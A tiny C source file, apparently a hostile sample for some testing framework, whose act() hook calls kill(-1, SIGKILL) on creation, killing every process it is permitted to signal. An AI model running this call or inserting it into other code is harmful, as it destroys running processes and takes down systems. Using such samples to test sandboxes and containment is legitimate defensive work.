/* kill_everyone.c - kills every process that it may. */
#include "hostile.h"

static void act(enum moment moment) {
  if (moment == IN_CREATE) kill(-1, SIGKILL);
}
